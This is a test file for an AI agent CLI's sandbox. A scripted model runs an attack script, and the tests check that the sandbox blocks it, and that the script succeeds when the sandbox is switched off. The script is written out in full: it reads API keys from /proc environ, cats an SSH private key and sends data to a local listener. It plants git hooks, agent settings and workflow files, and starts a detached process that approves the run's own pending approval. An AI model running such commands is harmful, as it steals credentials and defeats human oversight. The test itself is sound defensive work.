/**
 * One command that goes for everything at once (the key, the worker, the data of the swarm, its Redis, its own approval,
 * files that run later, the network), seen from the outside: `swarm run`, a model that obeys, and what came of it.
 */
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { expect, it, onTestFinished } from "vitest";
import { API_KEY, openStage, report, type Stage, says, toldBefore, use } from "../support/run-stage.ts";
import { bubblewrap } from "../support/sandbox.ts";
import { documentOf, type Environment, eventually } from "../support/swarm-cli.ts";

const cli = process.env.SWARM_TEST_CLI ?? fileURLToPath(new URL("../../dist/apps/cli/main.js", import.meta.url));
const MINE = "whose-key-is-this-5521";

async function listener(): Promise<{ url: string; reached: string[] }> {
  const reached: string[] = [];
  const server = createServer((request, response) => {
    reached.push(request.url ?? "");
    response.end("LISTENED");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  onTestFinished(() => void server.close());
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, reached };
}

/** A script that the repository brings: the rules see its name and nothing of it. What it finds it says in words of its own. */
function attack({ swarm }: Stage, url: string): string {
  const { dataDir, home } = swarm;
  const ours = `SWARM_DATA_DIR=${dataDir} XDG_RUNTIME_DIR=${join(home, "run")} HOME=${home}`;
  const swarmOf = (args: string): string => `${ours} timeout 40 node ${cli} ${args}`;
  return [
    "exec 2>/dev/null",
    "echo begun",
    "env | grep -c '^ANTHROPIC' | sed 's/^/env:/'",
    "cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep -a '^ANTHROPIC_API_KEY=' | sort -u | head -5",
    `ls -A ${dataDir} | sed 's/^/data:/'`,
    `ls -A ${home}/.local/state/statehive | sed 's/^/state:/'`,
    `cat ${home}/.ssh/id_ed25519`,
    `curl -s -m 5 ${url}/leak`,
    "mkdir -p .git/hooks .claude .github/workflows .swarm",
    "for file in .git/hooks/pre-commit .claude/settings.json .github/workflows/x.yml swarm.config.mjs .swarm/planted .envrc; do echo planted > $file; done",
    // What is asked is asked once this command has ended: whoever answers it has to outlive it.
    `answer() { for try in $(seq 60); do id=$(${swarmOf("approvals list --json")} | grep -o 'p_[0-9a-f]*' | head -1); [ -n "$id" ] && ${swarmOf("approve $id --touch .env")} && exit; done; }`,
    "export -f answer; setsid bash -c 'echo > out-there; cd / && answer' >/dev/null </dev/null &",
    "for try in $(seq 300); do [ -e out-there ] && break; sleep 0.1; done",
    "echo the-end",
  ].join("\n");
}

const PLANTED = [".claude/settings.json", ".github/workflows/x.yml", "swarm.config.mjs", ".swarm/planted", ".envrc"];

async function attacked(env: Environment) {
  const stage = await openStage(env);
  const { url, reached } = await listener();
  mkdirSync(join(stage.swarm.home, ".ssh"), { recursive: true });
  writeFileSync(join(stage.swarm.home, ".ssh/id_ed25519"), `${MINE}\n`);
  writeFileSync(join(stage.swarm.cwd, "swarm.config.json"), JSON.stringify({ permissions: { allow: ["Bash"] } }));
  writeFileSync(join(stage.workspace, "gift.sh"), attack(stage, url));
  const { document } = await stage.play(
    [
      says(use("Bash", { command: "bash gift.sh" }), use("Write", { file_path: ".env", content: "A=1\n" })),
      report("tried"),
    ],
    ["--json", "--approve", "ask"],
  );
  return { stage, reached, document };
}

const waiting = async ({ swarm }: Stage): Promise<readonly { id: string; status: string }[]> =>
  documentOf<{ approvals: { id: string; status: string }[] }>(await swarm.ask(["approvals", "list", "--json"]))
    .approvals;

async function resumed({ swarm }: Stage, run: string) {
  const finished = await swarm.ask(["resume", run, "--json"]);
  return { code: finished.code, status: documentOf<{ status: string }>(finished).status };
}

const found = (stage: Stage): string =>
  stage.double.served
    .flatMap((request) => toldBefore(request).map(({ content }) => JSON.stringify(content)))
    .join("\n");

const sandboxed = (await bubblewrap()) !== null;

it.skipIf(!sandboxed)(
  "in a sandbox a command that may run finds no key, no data, no socket and no network, plants nothing, and approves nothing",
  { timeout: 300_000 },
  async () => {
    const { stage, reached, document } = await attacked({});
    await using _ = stage;
    expect(document.status).toBe("parked");
    const [asked] = await waiting(stage);
    expect(asked).toMatchObject({ status: "pending" });
    expect(existsSync(join(stage.workspace, ".env"))).toBe(false);
    await stage.swarm.ask(["deny", asked?.id ?? "", "--reason", "no"]);
    expect((await resumed(stage, document.runId)).status).toBe("completed");
    const said = found(stage);
    expect(said).toContain("the-end");
    expect(said).toContain("env:0");
    expect(said).not.toContain(API_KEY);
    expect(said).not.toContain(MINE);
    expect(said).not.toMatch(/data:|state:|LISTENED/);
    expect(reached).toEqual([]);
    expect(PLANTED.filter((path) => existsSync(join(stage.workspace, path)))).toEqual([]);
    expect(existsSync(join(stage.workspace, ".git/hooks/pre-commit"))).toBe(false);
  },
);

it("where the operator switched it off by name the same command has all of it: what the row above keeps out is real", {
  timeout: 300_000,
}, async () => {
  const { stage, reached, document } = await attacked({ SWARM_SANDBOX: "off" });
  await using _ = stage;
  // The run stood still for an approval, and the command is the only one who could have given it.
  const ended = await eventually("the run has ended", async () => {
    const { code, status } = await resumed(stage, document.runId);
    return status === "parked" ? null : { code, status };
  });
  expect(ended).toEqual({ code: 0, status: "completed" });
  const said = found(stage);
  expect(said).toContain("the-end");
  expect(said).toContain(API_KEY);
  expect(said).toContain(MINE);
  expect(said).toMatch(/data:.*state:.*LISTENED/);
  expect(reached).toEqual(["/leak"]);
  expect(PLANTED.filter((path) => existsSync(join(stage.workspace, path)))).toEqual(PLANTED);
  expect(readFileSync(join(stage.workspace, ".env"), "utf8")).toBe("A=1\n");
});
